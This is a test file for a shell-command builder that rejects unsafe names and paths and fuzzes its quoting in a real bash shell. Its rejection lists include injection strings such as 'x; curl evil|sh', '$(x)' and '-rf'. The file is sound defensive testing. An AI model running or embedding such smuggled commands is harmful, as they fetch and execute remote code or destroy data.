import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import {
  isPlainName,
  juliaPath,
  pathArgument,
  shellPath,
  userCommand,
} from '../../../src/base/user-command.ts';

describe('a command for the user', () => {
  it('has names that are plain words', () => {
    assert.equal(
      userCommand`add-artifact ${'weights_v1.2-a'} --write`,
      'add-artifact weights_v1.2-a --write',
    );
    for (const name of [
      'x; curl evil|sh',
      '$(x)',
      '`x`',
      '-rf',
      '--write',
      "x'",
      'x"',
      'a b',
      'a\nb',
      '',
      '../x',
      'ä',
    ])
      assert.equal(userCommand`add-artifact ${name} --write`, undefined, name);
    assert.ok(isPlainName('CSV') && !isPlainName('C SV'));
  });

  it('has paths with quotes where they need them', () => {
    assert.equal(userCommand`run ${pathArgument('a/b')}`, 'run a/b');
    assert.equal(userCommand`run ${pathArgument('/home/ada/Meine Größe')}`, 'run "/home/ada/Meine Größe"');
    assert.equal(userCommand`run ${pathArgument('C:\\Users\\Ada\\x')}`, 'run "C:\\Users\\Ada\\x"');
    for (const path of [
      '$(x)',
      '-x',
      'a;b',
      'a&b',
      '~/x',
      'a"b',
      'C:\\',
      'a\\\\b',
      'a\nb',
      'x`y`',
      '%PATH%',
      'a!b',
    ])
      assert.equal(userCommand`run ${pathArgument(path)}`, undefined, path);
    assert.equal(userCommand`cd "${shellPath('a b')}"`, 'cd "a b"');
    assert.equal(userCommand`Pkg.develop(path="${juliaPath('a\\b')}")`, undefined);
  });

  it('is one command with the very words, in a real shell', () => {
    const odd = fc.string({
      unit: fc.constantFrom(...'ab1 ._-/\\~$`"\';|&()<>*?[]{}!#%^=+,:@\n\t\r\u2028ä'.split('')),
      minLength: 1,
      maxLength: 12,
    });
    const texts = [...fc.sample(odd, 3_000), ...fc.sample(fc.stringMatching(/^[ab ._/~-]{1,8}$/), 500)];
    const made = texts.flatMap((text) => {
      const whole = userCommand`told ${pathArgument(text)} end`;
      return whole === undefined ? [] : [{ text, whole }];
    });
    assert.ok(made.length > 50);
    const script = ['told() { printf \'%s\\0\' "$#" "$1" "$2"; }', ...made.map(({ whole }) => whole)].join(
      '\n',
    );
    const told = execFileSync('bash', ['-c', script], { encoding: 'utf8' }).split('\0').slice(0, -1);
    assert.deepEqual(
      told,
      made.flatMap(({ text }) => ['2', text, 'end']),
    );
  });
});
